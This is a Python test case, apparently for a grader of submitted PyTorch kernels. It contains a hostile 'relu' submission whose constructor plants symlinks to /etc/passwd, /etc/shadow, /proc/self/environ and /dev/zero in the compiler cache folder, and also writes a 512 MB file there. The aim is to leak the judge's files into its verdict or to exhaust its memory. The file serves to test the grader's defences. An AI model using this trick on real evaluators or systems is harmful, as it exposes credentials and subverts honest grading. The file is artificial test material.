"""Right, and leaves links and an enormous file where the judge collects what a compiler generated.

Tries: to have files of the judge's side copied into its verdict, or to fill memory there.
Might work: whoever collects files follows links and reads them whole.

problem: relu
expect: labelled
labels: uses_torch_compile
"""

import os

import torch
from torch import nn

COMPILE = torch.compile  # so that artifacts are asked for


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        folder = os.environ["TORCHINDUCTOR_CACHE_DIR"]
        os.makedirs(folder, exist_ok=True)
        for number, place in enumerate(("/etc/passwd", "/etc/shadow", "/proc/self/environ", "/dev/zero", folder)):
            os.symlink(place, os.path.join(folder, f"link{number}.py"))
        with open(os.path.join(folder, "huge.py"), "wb") as file:
            file.write(b"def call(x): ...")
            file.truncate(1 << 29)

    def forward(self, x):
        return torch.relu(x)
